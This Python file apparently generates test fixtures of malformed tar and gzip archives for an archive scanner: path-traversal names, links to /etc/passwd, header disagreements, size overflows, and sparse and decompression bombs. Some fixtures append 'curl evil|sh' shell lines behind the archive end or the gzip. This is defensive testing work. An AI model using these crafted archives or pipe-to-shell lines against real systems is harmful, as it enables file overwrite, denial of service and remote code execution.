"""Tars and gzips that lie."""
from forge import (BLOCK, END, Tar, base256, crc32_of_zeros, deflate_zeros, gzip_member, octal, pax_record, tar_header, tar_of,
                   zip_of)
from zip_entry_lies import EVIL, GOOD, OK

GNU = b"ustar  \0"


def start():
    return Tar().add("ok.txt", OK)


def write(suite):
    def lie(file, kinds, why, archive, **more):
        suite.add("tar-" + file + ".tar", kinds, why, archive if isinstance(archive, bytes) else archive.finish(),
                  shown=more.pop("shown", ["ok.txt"]), **more)

    def pressed(file, kinds, why, content, **more):
        suite.add("tar-" + file + ".tar.gz", kinds, why, content, **more)

    broken(lie)
    names(lie)
    links(lie)
    sizes(lie)
    pax_paths(lie)
    pax_numbers(lie)
    pax_records(lie)
    kinds(lie)
    sparse(lie)
    gzips(pressed)
    suite.add("tar-in-zip-truncated.zip", ["truncated-archive"], "a nested tar that ends too early",
              zip_of(("ok.txt", OK), ("src.tar", start().add("a.js", GOOD).finish()[:-3 * BLOCK])), shown=["ok.txt", "src.tar!/ok.txt"])
    suite.add("tar-in-zip-parent.zip", ["unsafe-name"], "a nested tar.gz with a name that leaves it",
              zip_of(("ok.txt", OK), ("src.tar.gz", gzip_member(start().add("../../evil.js", EVIL).finish()))),
              shown=["ok.txt", "src.tar.gz!/ok.txt"])


def broken(lie):
    cut, unreadable, data = ["truncated-archive"], ["unreadable-archive"], ["unlisted-data"]
    whole = bytes(start().add("index.js", GOOD * 40).out)
    lie("truncated-data", cut, "the file ends within an entry", whole[:-700], not_shown=["index.js"])
    lie("truncated-padding", cut, "the file ends within an entry's padding", whole[:-100])
    lie("truncated-header", cut, "the file ends within a header", whole + tar_header("last.js", size=5)[:300])
    lie("truncated-pax", cut, "an extended header and no entry to extend", start().pax(("path", "index.js")).finish(end=b""))
    lie("truncated-pax-end", cut, "an extended header and then the end", start().pax(("path", "index.js")))
    lie("checksum", unreadable, "a header whose checksum is wrong", start().add("index.js", GOOD, checksum=b"000000\0 "))
    lie("checksum-text", unreadable, "a header whose checksum is no number", start().add("index.js", GOOD, checksum=b"pirates "))
    lie("garbage", unreadable, "noise where a header should be", start().raw(b"\x99" * BLOCK))
    lie("size-text", unreadable, "a size that is no number", start().add("index.js", GOOD, size_field=b"000000000zz\0"))
    lie("size-overrun", cut, "a size larger than the file", start().add("index.js", GOOD, size=1 << 20), not_shown=["index.js"])
    lie("size-maximum", cut, "the largest octal size", start().add("index.js", GOOD, size_field=b"77777777777\0"), not_shown=["index.js"])
    lie("size-binary-negative", unreadable, "a negative binary size", start().add("index.js", GOOD, size_field=base256(-512, 12)))
    lie("size-binary-huge", ["@any"], "a binary size of 2^80: it overflows 64 bits", start().add("index.js", GOOD, size_field=base256(1 << 80, 12)))
    lie("size-binary-overflow", ["@any"], "a binary size of 2^63-1: rounding up to blocks overflows",
        start().add("index.js", GOOD, size_field=base256((1 << 63) - 1, 12)))
    lie("after-end", data, "a second tar behind the end of the first: `tar -i` and concatenating readers see it",
        start().finish() + tar_of(("evil.js", EVIL)))
    lie("after-end-bytes", data, "a script behind the end", start().finish(end=END + b"#!/bin/sh\ncurl evil|sh\n".ljust(BLOCK, b"\0")))
    lie("after-one-zero-block", data, "one zero block and then more entries: an end for some readers, a warning for others",
        start().raw(bytes(BLOCK)).add("evil.js", EVIL))
    padding = bytearray(start().out)
    padding[-20:] = b"#!/bin/sh\ncurl evil\n"
    lie("padding", data, "a script in the padding behind an entry", bytes(padding) + END)


def names(lie):
    wrong = ["unsafe-name"]
    for what, name in {"absolute": "/etc/passwd", "parent": "../../index.js", "parent-inside": "lib/../index.js", "backslash": "..\\index.js",
                       "drive": "C:/index.js", "empty": "", "root-file": "./", "not-utf8": b"caf\xe9.js"}.items():
        lie("name-" + what, wrong, "an entry is called %s" % ascii(name), start().add(name, EVIL))
    lie("name-prefix-parent", wrong, "the prefix leaves the archive, the name does not", start().add("index.js", EVIL, prefix=b"../.."))
    lie("name-prefix-absolute", wrong, "the prefix makes the name absolute", start().add("index.js", EVIL, prefix=b"/etc"))
    lie("name-pax-parent", wrong, "the extended header's path leaves the archive", start().pax(("path", "a/" * 60 + "../" * 70 + "evil.js")).add("evil.js", EVIL))
    lie("name-pax-nul", wrong, "the extended header's path has a NUL", start().pax(("path", "n" * 120 + ".js\0.txt")).add("n" * 100, EVIL))
    lie("name-pax-not-utf8", wrong, "the extended header's path is not UTF-8", start().pax(("path", b"caf\xe9" * 40)).add("caf", EVIL))
    lie("name-gnu-parent", wrong, "a GNU long name leaves the archive", start().gnu_long(b"../" * 50 + b"evil.js").add("evil.js", EVIL, magic=GNU))
    lie("name-gnu-nul", wrong, "a GNU long name with a NUL within: one name or the other",
        start().gnu_long(b"safe.txt\0" + b"x" * 120).add("safe.txt", EVIL, magic=GNU))
    lie("name-deep", wrong, "10,000 folders in one another", start().gnu_long(b"d/" * 10000 + b"index.js").add("d/", EVIL, magic=GNU))
    lie("duplicate", ["duplicate-name"], "two entries of one name: the last one wins when it is unpacked", start().add("index.js", GOOD).add("index.js", EVIL))
    lie("duplicate-dot", ["duplicate-name"], "./index.js and index.js", start().add("index.js", GOOD).add("./index.js", EVIL))
    lie("duplicate-pax", ["duplicate-name"], "the second of the two has its name from an extended header",
        start().add("lib/" + "n" * 90, GOOD).pax(("path", "lib/" + "n" * 90)).add("lib/" + "n" * 90, EVIL))
    lie("collision", ["name-collision"], "names that differ in case only", start().add("index.js", GOOD).add("Index.js", EVIL))
    lie("conflict", ["name-conflict"], "lib is a file and a folder", start().add("lib", GOOD).add("lib/index.js", EVIL))
    lie("folder-with-content", ["unlisted-data"], "a folder of 38 bytes: a script follows that some readers skip and others parse as a header",
        start().add("lib/", GOOD, kind=b"5"))


def links(lie):
    lie("link-absolute", ["link-outside"], "a link to /etc/passwd", start().link("a", "/etc/passwd"))
    lie("link-parent", ["link-outside"], "a link above the archive", start().link("a", "../../etc/passwd"))
    lie("link-dangling", ["link-dangling"], "a link to nothing", start().link("a", "missing"))
    lie("link-loop", ["link-loop"], "two links to each other", start().link("a", "b").link("b", "a"))
    lie("link-shadow", ["link-shadow"], "lib is a link, and lib/index.js an entry", start().add("other/index.js", GOOD).link("lib", "other").add("lib/index.js", EVIL))
    lie("link-pax-target", ["link-outside"], "the target, too long for the header, leaves the archive",
        start().pax(("linkpath", "../" * 60 + "etc/passwd")).link("a", "../" * 33))
    lie("link-gnu-target", ["link-outside"], "a GNU long target leaves the archive",
        start().gnu_long(b"../" * 60 + b"etc/passwd", kind=b"K").link("a", "../" * 33, magic=GNU))
    dangling = ["hard-link-dangling"]
    lie("hard-link-dangling", dangling, "a hard link to nothing", start().hard_link("a", "missing"))
    lie("hard-link-later", dangling, "a hard link to an entry that comes later", start().hard_link("a", "index.js").add("index.js", GOOD))
    lie("hard-link-itself", dangling, "a hard link to itself", start().hard_link("a", "a"))
    lie("hard-link-folder", dangling, "a hard link to a folder", start().folder("lib/").hard_link("a", "lib"))
    lie("hard-link-empty", dangling, "a hard link without a target", start().hard_link("a", ""))
    lie("hard-link-absolute", ["link-outside"], "a hard link to /etc/passwd", start().hard_link("a", "/etc/passwd"))
    lie("hard-link-parent", ["link-outside"], "a hard link above the archive", start().hard_link("a", "../../etc/passwd"))
    lie("hard-link-through-link", ["link-outside"], "a hard link to a link that leaves the archive",
        start().link("out", "/etc/passwd").hard_link("a", "out"))


def sizes(lie):
    """Entries that have no content by their kind, and a size: some readers skip it, others read headers there."""
    wrong, hidden = ["size-mismatch"], bytes(Tar().add("evil.js", EVIL).out)
    lie("link-with-content", wrong, "a link with a size: what follows is content to some readers and entries to others", start().add("a", hidden, kind=b"2", linkname="ok.txt"))
    lie("hard-link-with-content", wrong, "the same with a hard link", start().add("a", hidden, kind=b"1", linkname="ok.txt"))
    lie("folder-with-entries", ["unlisted-data"], "the same with a folder", start().add("lib/", hidden, kind=b"5"))
    lie("fifo-with-content", ["special-file"], "the same with a fifo", start().add("a", hidden, kind=b"6"))


def pax_paths(lie):
    wrong = ["pax-mismatch"]
    lie("pax-path", wrong, "the header says readme.txt and the extended header index.js, though nothing made one necessary",
        start().pax(("path", "index.js")).add("readme.txt", EVIL))
    lie("pax-path-twice", wrong, "two paths in one extended header", start().pax(("path", "a/" * 60 + "good.js"), ("path", "a/" * 60 + "evil.js")).add("a/" * 50, EVIL))
    lie("pax-path-empty", wrong, "an empty path, which some readers take for `no path`", start().pax(("path", "")).add("index.js", EVIL))
    lie("pax-path-folder", wrong, "the extended header makes a folder's name of a file's", start().pax(("path", "index.js/")).add("index.js", EVIL))
    lie("pax-path-global", wrong, "a global header names every entry that follows", start().pax(("path", "index.js"), kind=b"g").add("readme.txt", EVIL))
    lie("pax-two-headers", wrong, "two extended headers for one entry", start().pax(("path", "good.js")).pax(("path", "evil.js")).add("good.js", EVIL))
    lie("pax-and-gnu", wrong, "an extended header and a GNU long name, and they disagree",
        start().pax(("path", "good.js")).gnu_long(b"evil.js").add("good.js", EVIL, magic=GNU))
    lie("pax-gnu-and-pax", wrong, "the same the other way round", start().gnu_long(b"evil.js").pax(("path", "good.js")).add("good.js", EVIL))
    lie("pax-linkpath", wrong, "the header's target is ok.txt, the extended header's index.js",
        start().add("index.js", EVIL).pax(("linkpath", "index.js")).link("a", "ok.txt"))
    lie("pax-sparse-name", wrong, "GNU.sparse.name renames the entry for the readers that know it",
        start().pax(("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"), ("GNU.sparse.name", "index.js"), ("GNU.sparse.realsize", "38"))
        .add("GNUSparseFile.0/readme.txt", b"1\n0\n38\n".ljust(BLOCK, b"\0") + EVIL))
    lie("gnu-long-short", wrong, "a GNU long name that no length made necessary, and it disagrees",
        start().gnu_long(b"index.js").add("readme.txt", EVIL, magic=GNU))


def pax_numbers(lie):
    wrong = ["pax-mismatch"]

    def sized(value, name="index.js"):
        return start().pax(("size", value)).add(name, GOOD)

    lie("pax-size-less", wrong, "the extended header gives a smaller size: what follows is read as a header", sized("0"))
    lie("pax-size-more", wrong, "the extended header's size swallows the next entry",
        start().pax(("size", str(2 * BLOCK + len(GOOD)))).add("index.js", GOOD).add("evil.js", EVIL))
    lie("pax-size-hides-entry", wrong, "a size of 0 in the header and of a whole tar in the extended one: readers without pax see other entries",
        start().pax(("size", str(2 * BLOCK))).add("cover.bin", bytes(Tar().add("evil.js", EVIL).out), size=0))
    lie("pax-size-overrun", wrong, "a size beyond the archive", sized(str(1 << 40)))
    lie("pax-size-negative", wrong, "a negative size", sized("-512"))
    lie("pax-size-overflow", wrong, "a size of 2^64", sized(str(1 << 64)))
    lie("pax-size-maximum", wrong, "a size of 2^63-1: rounding up to blocks overflows", sized(str((1 << 63) - 1)))
    lie("pax-size-nan", wrong, "a size of NaN", sized("NaN"))
    lie("pax-size-float", wrong, "a size of 1e1", sized("1e1"))
    lie("pax-size-hexadecimal", wrong, "a size of 0x26", sized("0x26"))
    lie("pax-size-space", wrong, "a size with a space before it", sized(" 38"))
    lie("pax-size-plus", wrong, "a size with a sign", sized("+38"))
    lie("pax-size-empty", wrong, "an empty size", sized(""))
    lie("pax-size-digits", wrong, "a size of Arabic digits", sized("٣٨"))
    lie("pax-size-twice", wrong, "two sizes", start().pax(("size", "38"), ("size", "0")).add("index.js", GOOD))
    lie("pax-size-global", wrong, "a global header sizes every entry that follows", start().pax(("size", "0"), kind=b"g").add("index.js", GOOD))


def pax_records(lie):
    wrong = ["pax-mismatch"]

    def body(content):
        return start().pax(body=content).add("index.js", GOOD)

    lie("pax-length-more", wrong, "a record's length goes beyond the header", body(b"99 path=x\n"))
    lie("pax-length-less", wrong, "a record's length ends within it", body(b"7 path=evil.js\n"))
    lie("pax-length-zero", wrong, "a record of length zero: a reader may loop for ever", body(b"0 path=x\n"))
    lie("pax-length-negative", wrong, "a record of negative length", body(b"-5 path=x\n"))
    lie("pax-length-text", wrong, "a record whose length is no number", body(b"ab path=x\n"))
    lie("pax-length-huge", wrong, "a record's length of 30 digits", body(b"9" * 30 + b" path=x\n"))
    lie("pax-no-newline", wrong, "a record that does not end in a newline", body(pax_record("path", "evil.js")[:-1] + b"!"))
    lie("pax-no-equals", wrong, "a record without a value", body(b"12 pathevil\n"))
    lie("pax-no-key", wrong, "a record without a key", body(b"5 =x\n"))
    lie("pax-key-nul", wrong, "a key with a NUL", start().pax((b"pa\0th", "x")).add("index.js", GOOD))
    lie("pax-tail", wrong, "bytes behind the last record", body(pax_record("mtime", "0") + b"#!/bin/sh\n"))


def kinds(lie):
    wrong = ["special-file"]
    lie("fifo", wrong, "a fifo", start().add("pipe", kind=b"6"))
    lie("character-device", wrong, "/dev/mem", start().add("mem", kind=b"3", device=(1, 1)))
    lie("block-device", wrong, "/dev/sda", start().add("sda", kind=b"4", device=(8, 0)))
    lie("unknown-kind", wrong, "an entry of kind Z: a file to some readers", start().add("index.js", EVIL, kind=b"Z"))
    lie("multi-volume", ["split-archive"], "the continuation of a file of another volume", start().add("index.js", EVIL, kind=b"M", magic=GNU))


def old_sparse(real, pieces):
    """GNU's old sparse header: pairs of (offset, length), and the size that comes out."""
    fields = octal(0, 12) + octal(0, 12) + octal(0, 12) + b"\0" * 4 + b"\0"
    fields += b"".join(octal(offset, 12) + octal(length, 12) for offset, length in pieces).ljust(96, b"\0")
    size = octal(real, 12) if real < 8 ** 11 else base256(real, 12)
    return fields + b"\0" + size


def sparse(lie):
    gnu = dict(kind=b"S", magic=GNU)
    lie("sparse-bomb", ["special-file"], "a sparse file of 1 TiB in one block", start().add("hole.bin", b"x", tail=old_sparse(1 << 40, [(0, 1)]), **gnu), not_shown=["hole.bin"])
    lie("sparse-overlap", ["@any"], "a sparse file whose pieces overlap",
        start().add("hole.bin", bytes(1024), tail=old_sparse(1024, [(0, 512), (0, 512)]), **gnu))
    lie("sparse-overflow", ["@any"], "a sparse piece beyond the file's size",
        start().add("hole.bin", bytes(512), tail=old_sparse(512, [(8 ** 11 - 512, 512)]), **gnu))
    lie("sparse-short", ["@any"], "a sparse file whose pieces are more than its content",
        start().add("hole.bin", bytes(512), tail=old_sparse(4096, [(0, 4096)]), **gnu))
    lie("sparse-pax-bomb", ["@any"], "a sparse file of 1 TiB by extended header",
        start().pax(("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"), ("GNU.sparse.name", "hole.bin"), ("GNU.sparse.realsize", str(1 << 40)))
        .add("GNUSparseFile.0/hole.bin", b"1\n0\n1\n".ljust(BLOCK, b"\0") + b"x"))


def gzips(pressed):
    inside, data = tar_of(("a.txt", OK), ("b.js", GOOD)), ["unlisted-data"]
    whole = gzip_member(inside)
    pressed("gzip-tail", data, "bytes behind the gzip", whole + b"#!/bin/sh\ncurl evil|sh\n")
    pressed("gzip-tail-magic", data, "behind the gzip two bytes that begin another", whole + b"\x1f\x8b")
    pressed("gzip-tail-zip", data, "a whole zip behind the gzip: a polyglot", whole + zip_of(("index.js", EVIL)))
    pressed("gzip-second-tar", data, "a second member with a second tar, behind the end of the first", whole + gzip_member(tar_of(("evil.js", EVIL))))
    pressed("gzip-crc", ["checksum-mismatch"], "a wrong checksum", gzip_member(inside, crc=1))
    pressed("gzip-size", ["@any"], "a wrong length", gzip_member(inside, size=1))
    pressed("gzip-crc-second", ["checksum-mismatch"], "the second of two members has a wrong checksum",
            gzip_member(inside[:700]) + gzip_member(inside[700:], crc=1))
    pressed("gzip-truncated", ["truncated-archive"], "the gzip ends within its stream", whole[:len(whole) // 2])
    pressed("gzip-truncated-trailer", ["truncated-archive"], "the gzip ends within its trailer", whole[:-5])
    pressed("gzip-header-only", ["truncated-archive"], "a gzip header and nothing else", whole[:10])
    pressed("gzip-garbage", ["@any"], "a gzip header and then noise", whole[:10] + b"\xff" * 60)
    pressed("gzip-flags", ["unreadable-archive"], "reserved flags are set", gzip_member(inside, flags=0xE0))
    pressed("gzip-method", ["@any"], "a compression method that does not exist", b"\x1f\x8b\x07" + whole[3:])
    pressed("gzip-name-endless", ["@any"], "a file name that never ends", gzip_member(b"", flags=8, header=b"n" * 5000, payload=b"n" * 5000))
    zeros = 1 << 30
    pressed("gzip-bomb", ["@limit"], "a tar with one file of 1 GiB of zeros", tar_bomb(zeros), not_shown=["zeros.bin"])
    pressed("gzip-bomb-padding", ["@limit"], "1 GiB of zeros behind the end of a tar",
            gzip_member(inside) + gzip_member(b"", payload=deflate_zeros(zeros), crc=crc32_of_zeros(zeros), size=zeros))
    members = Tar()
    for number in range(1001):
        members.add("%05d" % number)
    pressed("many-entries", ["limit-entries"], "1,001 empty entries where 1,000 are allowed", gzip_member(members.finish()), limits={"entries": 1000})


def tar_bomb(zeros):
    header = tar_header("zeros.bin", size=zeros)
    return gzip_member(header) + gzip_member(b"", payload=deflate_zeros(zeros), crc=crc32_of_zeros(zeros), size=zeros) + gzip_member(END)

